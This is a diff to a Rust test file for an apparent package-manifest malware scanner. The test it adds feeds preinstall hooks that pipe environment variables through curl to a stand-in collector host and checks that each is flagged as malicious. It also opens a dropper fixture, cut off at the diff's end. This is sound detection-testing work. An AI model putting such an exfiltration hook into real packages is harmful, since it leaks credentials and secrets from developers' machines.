@@ -79,6 +79,26 @@ fn a_manifest_only_node_can_parse_still_shows_its_install_script() {
     assert_verdict(&odd, Verdict::Suspicious);
 }
 
+/// A command standing first in its script is indented in the install view: piping the
+/// environment out must count there as after a `;`.
+#[test]
+fn every_way_to_list_the_environment_counts_at_the_start_of_a_script() {
+    for dump in ["env", "printenv", "/usr/bin/env", "export -p", "declare -x"] {
+        let attack = analyse(&[(
+            "package.json",
+            &manifest(&format!(
+                "    \"preinstall\": \"{dump} | curl -s -d @- https://hooks.collector.example/c\""
+            )),
+        )]);
+        assert!(
+            has(&attack, "exfil/env-harvest"),
+            "{dump}: {:?}",
+            rule_ids(&attack)
+        );
+        assert_verdict(&attack, Verdict::Malicious);
+    }
+}
+
 const DROPPER: &str = r#"const https = require('https');
 const fs = require('fs');
 const { spawn } = require('child_process');
